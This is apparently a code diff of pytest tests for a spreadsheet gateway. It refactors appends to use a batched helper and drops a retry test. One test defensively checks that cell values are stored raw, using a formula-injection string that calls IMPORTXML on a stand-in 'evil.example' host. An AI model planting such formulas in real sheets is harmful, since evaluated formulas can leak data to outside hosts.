@@ -9,6 +9,7 @@ import pytest
 import requests
 
 from shared.sheets import errors
+from shared.sheets.append_cells import Appendix, append_all
 from shared.sheets.gateway import CellNote, CellWrite, Outcome, RowFormat, SheetsGateway, connect
 from shared.sheets.http import CallCounter, RetryPolicy
 from shared.sheets.layout import TableLayout
@@ -160,8 +161,13 @@ def test_values_are_written_raw_never_as_formulas(
     row = table.rows[0]
     evil = '=IMPORTXML("http://evil.example/x","//a")'
     gateway.write(table, [CellWrite(row.key, row.number, "message", evil)])
-    gateway.append(
-        gateway.read([], headers_only=[TableLayout.from_template(tpl.LOG)])[LOG], [{"reason": evil}]
+    append_all(
+        gateway,
+        [
+            Appendix(
+                gateway.read([], headers_only=[TableLayout.from_template(tpl.LOG)])[LOG], [{"reason": evil}]
+            )
+        ],
     )
     for sheet in (ORDERS, LOG):
         grid = cells(emulator, workspace, sheet)
@@ -174,17 +180,28 @@ def test_append_to_log_follows_the_header(gateway: SheetsGateway, operator: gspr
     ws = operator.worksheet(LOG)
     header = ws.row_values(1)
     ws.update([list(reversed(header))], "A1")  # an operator reordered the log's columns
+    gateway.sheet_ids()  # cached for the gateway's life (one metadata GET the first time)
     gateway.calls.reset()
     head = gateway.read([], headers_only=[log_layout])[LOG]
-    n = gateway.append(
-        head,
+    n = append_all(
+        gateway,
         [
-            {"at": "2026-11-26 04:00", "order_id": "3700000001", "actor": "system", "new": "SF1"},
-            {"at": "2026-11-26 04:01", "order_id": "3700000002", "actor": "ops@example.com", "old": "SF1"},
+            Appendix(
+                head,
+                [
+                    {"at": "2026-11-26 04:00", "order_id": "3700000001", "actor": "system", "new": "SF1"},
+                    {
+                        "at": "2026-11-26 04:01",
+                        "order_id": "3700000002",
+                        "actor": "ops@example.com",
+                        "old": "SF1",
+                    },
+                ],
+            )
         ],
     )
     assert n == 2
-    assert gateway.calls.snapshot() == {"values.batchGet": 1, "values.append": 1}
+    assert gateway.calls.snapshot() == {"values.batchGet": 1, "spreadsheets.batchUpdate": 1}
     rows = gateway.read([log_layout])[LOG].rows
     assert [(r["order_id"], r["actor"], r["new"], r["old"]) for r in rows] == [
         ("3700000001", "system", "SF1", ""),
@@ -215,15 +232,6 @@ def test_gives_up_after_the_attempt_limit(gateway: SheetsGateway, emulator: Any,
     assert gateway.calls.snapshot() == {"values.batchGet": 4}  # max_attempts=4 in the fixture
     assert len(sleeps) == 3
     emulator.emulator.faults.clear()
-
-
-def test_append_is_not_retried_on_5xx(gateway: SheetsGateway, emulator: Any) -> None:
-    head = gateway.read([], headers_only=[TableLayout.from_template(tpl.LOG)])[LOG]
-    emulator.emulator.add_faults([{"code": 500}])
-    gateway.calls.reset()
-    with pytest.raises(errors.SheetsUnavailable):
-        gateway.append(head, [{"order_id": "1"}])
-    assert gateway.calls.snapshot() == {"values.append": 1}
 
 
 def test_errors_are_the_adapter_family(gateway: SheetsGateway, emulator: Any) -> None:
